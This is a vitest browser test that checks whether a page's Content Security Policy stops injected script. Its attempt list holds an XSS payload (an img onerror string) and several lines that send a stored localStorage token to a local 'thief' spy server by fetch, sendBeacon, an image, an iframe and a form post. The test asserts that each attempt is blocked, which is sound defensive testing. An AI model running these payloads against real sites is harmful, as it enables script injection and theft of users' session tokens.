/** What the page's policy stops in a browser, should a script of somebody else's ever run in it (F6). */
import { afterAll, beforeAll, expect, test } from "vitest";
import { newVisitor } from "#test/support/browser.ts";
import { sharedHarness } from "#test/support/harness.ts";
import { type SpyServer, startSpyServer } from "#test/support/spy-server.ts";

let thief: SpyServer;

beforeAll(async () => {
  thief = await startSpyServer();
});
afterAll(() => thief.close());

/** Ways to make text run, and to carry a stored token away to the thief, with what stops each. */
const ATTEMPTS: [what: string, stoppedBy: string, script: (to: string) => string][] = [
  [
    "markup",
    "require-trusted-types-for",
    () => `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.ran=1>")`,
  ],
  [
    "a script",
    "require-trusted-types-for",
    () => `document.createElement("script").textContent = "window.ran = 1"`,
  ],
  [
    "a handler",
    "require-trusted-types-for",
    () => `document.createElement("button").setAttribute("onclick", "window.ran = 1")`,
  ],
  ["a worker", "require-trusted-types-for", () => `new Worker("/robots.txt")`],
  [
    "a policy that lets text pass",
    "trusted-types",
    () => `trustedTypes.createPolicy("service-worker", { createHTML: (text) => text })`,
  ],
  ["fetch", "connect-src", (to) => `fetch("${to}/?" + localStorage.token).catch(() => {})`],
  ["a beacon", "connect-src", (to) => `navigator.sendBeacon("${to}", localStorage.token)`],
  ["a picture", "img-src", (to) => `new Image().src = "${to}/?" + localStorage.token`],
  [
    "a frame",
    "frame-src",
    (to) =>
      `document.body.append(Object.assign(document.createElement("iframe"), { src: "${to}" }))`,
  ],
  [
    "a form",
    "form-action",
    (to) => `
      const form = document.createElement("form");
      Object.assign(form, { action: "${to}", method: "post" });
      document.body.append(form);
      form.submit()`,
  ],
];

test("nothing runs that came as text, and a stored token leaves by no way", async () => {
  const { url } = await sharedHarness();
  const { page, context } = await newVisitor(url, { token: "hy_secret" });
  await page.goto("/faq");
  for (const [what, stoppedBy, script] of ATTEMPTS) {
    const directive = await page.evaluate<string>(`new Promise((done) => {
      const tell = ({ effectiveDirective }) => done(effectiveDirective);
      addEventListener("securitypolicyviolation", tell, { once: true });
      try { ${script(thief.origin)} } catch {}
    })`);
    expect([what, directive]).toEqual([what, stoppedBy]);
  }
  expect(await page.evaluate("'ran' in window")).toBe(false);
  expect(thief.seen).toEqual([]);
  await context.close();
});
